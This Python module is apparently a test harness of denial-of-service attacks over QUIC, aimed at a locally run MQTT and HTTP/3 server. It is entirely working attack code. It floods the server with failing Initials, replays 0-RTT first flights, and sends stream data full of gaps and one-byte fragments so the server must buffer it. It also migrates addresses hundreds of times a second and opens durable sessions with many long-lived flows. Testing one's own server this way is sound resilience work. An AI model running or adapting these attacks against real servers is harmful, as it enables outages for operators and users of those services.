"""Attacks over QUIC, with aioquic's client, and one made by hand."""

import asyncio
import contextlib
import os
import random
import socket
import struct
import time

import wire
from common import WEEK_S, flood, from_somewhere, rounds

PATIENCE_S = 3
# How long an attack waits for the server to open its window, before it leaves what it has sent.
WINDOW_S = 0.2


def configuration(site, alpn, **options):
    from aioquic.quic.configuration import QuicConfiguration

    made = QuicConfiguration(is_client=True, alpn_protocols=[alpn], server_name="localhost", idle_timeout=600, **options)
    made.load_verify_locations(site["ca"])
    return made


async def client(site, number, kind="quic", alpn="mqtt", on_ticket=None, **options):
    """A connection from somewhere; it stays open until the process ends, or `end` is called."""
    from aioquic.quic.connection import QuicConnection

    quic = QuicConnection(configuration=configuration(site, alpn, **options), session_ticket_handler=on_ticket)
    sock = from_somewhere(socket.SOCK_DGRAM, number)
    made = await asyncio.get_running_loop().create_datagram_endpoint(lambda: protocol()(quic), sock=sock)
    made[1].connect(("127.0.0.1", site[kind]))
    KEPT.append(made[1])
    try:
        await asyncio.wait_for(made[1].wait_connected(), PATIENCE_S)
    except (asyncio.TimeoutError, ConnectionError):
        made[1].end()
        raise
    return made[1]


# What nobody refers to would be collected.
KEPT = []


def protocol():
    """A class, made late: only attacks over QUIC need aioquic."""
    from aioquic.asyncio.protocol import QuicConnectionProtocol
    from aioquic.quic.events import StreamDataReceived
    from aioquic.tls import Epoch

    class Client(QuicConnectionProtocol):
        def __init__(self, quic):
            super().__init__(quic)
            self.quic, self.answered = quic, asyncio.Event()

        def quic_event_received(self, event):
            if isinstance(event, StreamDataReceived):
                self.answered.set()

        def move(self, sock):
            """Sends from there from now on."""
            old = self._transport
            self._transport = Socket(self, sock, self._loop)
            old.close()

        def flow_control_used(self):
            return self.quic._remote_max_data_used

        def send_packet(self, payload):
            """A packet with these frames, of which aioquic knows no more than that its number is used."""
            number, self.quic._packet_number = self.quic._packet_number, self.quic._packet_number + 1
            keys = self.quic._cryptos[Epoch.ONE_RTT]
            header = bytes([0x41 | keys.key_phase << 2]) + self.quic._peer_cid.cid + struct.pack(">H", number & 0xFFFF)
            self._transport.sendto(keys.encrypt_packet(header, payload, number), self.quic._network_paths[0].addr)

        def end(self):
            KEPT.remove(self)
            self.close()
            self._transport.close()

    return Client


class Socket:
    """As much of a transport as the client needs."""

    def __init__(self, client, sock, loop):
        self.sock, self.loop = sock, loop
        sock.setblocking(False)
        loop.add_reader(sock, self.read, client)

    def read(self, client):
        with contextlib.suppress(OSError):
            client.datagram_received(*self.sock.recvfrom(65536))

    def sendto(self, data, address):
        with contextlib.suppress(OSError):
            self.sock.sendto(data, address)

    def close(self):
        self.loop.remove_reader(self.sock)
        self.sock.close()


async def logged_in(site, number, durable=False):
    made = await client(site, number)
    expiry = WEEK_S if durable else 0
    made.quic.send_stream_data(0, wire.connect5(f"quic-{number}", site["attacker"], site["password"], expiry))
    made.transmit()
    await asyncio.wait_for(made.answered.wait(), PATIENCE_S)
    return made


def with_gaps(made, first, streams, size, every):
    """Data of which the server must keep all and can use nothing: the first byte of each stream does not come, nor one
    in `every` after it."""
    for at in range(streams):
        stream = first + 4 * at
        made.quic.send_stream_data(stream, bytes(size))
        pending = made.quic._streams[stream].sender._pending
        for gap in range(0, size, every):
            pending.subtract(gap, gap + 1)
    made.transmit()


# Data of a packet that is made by hand.
PAYLOAD = 1_150


def in_pieces(stream, data):
    """Frames for all of the data."""
    return [(stream, at, data[at : at + PAYLOAD - 20]) for at in range(0, len(data), PAYLOAD - 20)]


def packets_of(frames):
    """The streams, and the contents of packets with these frames, of stream, offset and data; with each the number of its
    frames, and the connection's flow control once it has been sent."""
    ends, packets, payload, count = {}, [], b"", 0
    for stream, at, data in frames:
        frame = b"\x0e" + wire.varint(stream) + wire.varint(at) + wire.varint(len(data)) + data
        if len(payload) + len(frame) > PAYLOAD:
            packets.append((payload, count, sum(ends.values())))
            payload, count = b"", 0
        payload, count = payload + frame, count + 1
        ends[stream] = max(ends.get(stream, 0), at + len(data))
    return list(ends), [*packets, (payload, count, sum(ends.values()))]


def prepared(seconds, rate, connect, packets, frames_each=1):
    """Connections at a rate, each of which sends these packets as they are. aioquic only encrypts them: with its streams
    and its recovery from losses, the attacker would be slower than what it attacks. Counts frames; or what consists of
    `frames_each`."""
    (streams, packets), sent = packets, {"frames": 0}

    async def one(number):
        made = await connect(number)
        used = made.flow_control_used()
        for stream in streams:
            # Or it would end the connection when the server does not want one of them.
            made.quic._get_or_create_stream_for_send(stream)
        for at, (payload, frames, flow) in enumerate(packets):
            begin = time.monotonic()
            while used + flow > made.quic._remote_max_data and time.monotonic() - begin < WINDOW_S:
                await asyncio.sleep(0.002)
            if used + flow > made.quic._remote_max_data or made.quic._close_event:
                break
            made.send_packet(payload)
            sent["frames"] += frames
            if at % 16 == 15:
                await asyncio.sleep(0)

    tried = rounds(seconds, rate, one)
    return sent["frames"] // frames_each or tried


def gaps(site, seconds):
    """10 connections a second without CONNECT, each with 1 MiB in 16 streams that cannot be read."""

    async def one(number):
        with_gaps(await client(site, number), 0, 16, 65_500, 65_536)

    return rounds(seconds, 10, one)


def gaps_in_sessions(site, seconds):
    """The same after CONNECT."""

    async def one(number):
        with_gaps(await logged_in(site, number), 4, 16, 65_500, 65_536)

    return rounds(seconds, 10, one)


def fragments(site, seconds):
    """10 connections a second without CONNECT, each with 32,000 fragments: 32 streams of which every other byte comes,
    alone, and the first never."""
    frames = [(4 * at, place, b"x") for at in range(32) for place in range(1, 2_000, 2)]
    return prepared(seconds, 10, lambda number: client(site, number), packets_of(frames))


def fragments_in_sessions(site, seconds):
    """The same after CONNECT, on streams that the client may have open then."""
    frames = [(4 * at, place, b"x") for at in range(1, 33) for place in range(1, 2_000, 2)]
    return prepared(seconds, 10, lambda number: logged_in(site, number), packets_of(frames))


def fragments_http3(site, seconds):
    """The same over HTTP/3, within its window: 16 streams of which every other byte comes, alone, and the first never."""
    frames = [(4 * at, place, b"x") for at in range(16) for place in range(1, 2_000, 2)]
    return prepared(seconds, 50, lambda number: client(site, number, "https", "h3"), packets_of(frames))


def handshakes(site, seconds):
    """50 whole handshakes a second without CONNECT."""

    async def one(number):
        await client(site, number)

    return rounds(seconds, 50, one)


def migrations(site, seconds):
    """20 clients that change their address 500 times a second in all."""
    clients = {}

    async def one(number):
        at = number % 20
        if at not in clients:
            clients[at] = await logged_in(site, at)
        clients[at].move(from_somewhere(socket.SOCK_DGRAM, random.randrange(64)))
        clients[at].quic.send_ping(number)
        clients[at].transmit()

    return rounds(seconds, 500, one)


def flows(site, seconds):
    """20 durable sessions a second with 60 flows each that outlast their streams, and a long subscription in each."""

    async def one(number):
        made = await logged_in(site, number, durable=True)
        for at in range(1, 61):
            header = b"\x12" + wire.varint(2 * at) + struct.pack(">I", WEEK_S | 0x8000_0000) + b"\x50"
            body = struct.pack(">HB", 1, 0) + wire.text(f"{'x' * 500}/{at}") + b"\x01"
            made.quic.send_stream_data(4 * at, header + wire.packet(0x82, body))
        made.transmit()
        await asyncio.sleep(1)
        made.end()

    return rounds(seconds, 20, one)


def stream_aliases(site, seconds):
    """1,200 aliases of 16 KB a second, each in a stream of its own, of which a client has 60; fewer if clients are sent
    away before."""
    publish = wire.packet(0x30, wire.text("t" * 16_000) + b"\x03\x23\x00\x01")
    frames = [frame for at in range(1, 61) for frame in in_pieces(4 * at, publish)]
    return prepared(seconds, 20, lambda number: logged_in(site, number), packets_of(frames), len(frames) // 60)


def initials(site, seconds):
    """10,000 a second: three in four are whole handshakes for a protocol nobody speaks, the rest noise."""
    pool = [wire.initial(wire.client_hello()) for _ in range(1500)] + [wire.initial_of_noise() for _ in range(500)]
    random.shuffle(pool)
    return flood(seconds, 10_000, site["quic"], pool)


def replays(site, seconds):
    """3,000 datagrams a second of 16 first flights with early data, a CONNECT, over and over from other addresses."""
    from aioquic.quic.connection import QuicConnection

    tickets = []

    async def visit():
        made = await client(site, 0, on_ticket=tickets.append)
        made.quic.send_stream_data(0, wire.connect5("replayed", site["attacker"], site["password"], 0))
        made.transmit()
        begin = time.monotonic()
        while not tickets and time.monotonic() - begin < PATIENCE_S:
            await asyncio.sleep(0.01)
        made.end()

    with contextlib.suppress(OSError, ConnectionError, asyncio.TimeoutError):
        asyncio.run(visit())
    flights = []
    for at in range(16):
        settings = configuration(site, "mqtt")
        settings.session_ticket = tickets[0] if tickets else None
        quic = QuicConnection(configuration=settings)
        quic.connect(("127.0.0.1", site["quic"]), now=0.0)
        quic.send_stream_data(0, wire.connect5(f"replayed-{at}", site["attacker"], site["password"], 0) + os.urandom(0))
        flights += [data for data, _ in quic.datagrams_to_send(now=0.0)]
    return flood(seconds, 3_000, site["quic"], flights * 20)


ATTACKS = {
    "failing QUIC Initials": initials,
    "replayed first flights, QUIC": replays,
    "handshakes, QUIC": handshakes,
    "gaps before CONNECT, QUIC": gaps,
    "gaps in sessions, QUIC": gaps_in_sessions,
    "fragments, QUIC": fragments,
    "fragments in sessions, QUIC": fragments_in_sessions,
    "fragments, HTTP/3": fragments_http3,
    "migrations, QUIC": migrations,
    "flows, QUIC": flows,
    "aliases on streams, QUIC": stream_aliases,
}
